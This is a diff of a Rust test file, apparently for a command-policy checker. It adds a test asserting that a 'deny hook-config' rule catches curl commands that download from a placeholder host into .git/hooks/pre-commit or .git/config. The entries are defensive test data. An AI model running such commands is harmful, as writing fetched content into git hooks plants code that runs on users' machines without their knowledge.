@@ -63,6 +63,15 @@ fn every_way_to_name_a_file_that_is_written_is_known() {
             "dd if=x of=.git/config",
             "install -D x .git/hooks/pre-commit",
             "rsync x .git/hooks/",
+        ],
+    );
+}
+
+#[test]
+fn what_fetches_packs_or_records_writes_a_file() {
+    all(
+        "deny hook-config",
+        &[
             "curl -sSo .git/hooks/pre-commit https://x.example",
             "curl -o.git/config https://x.example",
             "curl --output-dir .git/hooks -O https://x.example/pre-commit",
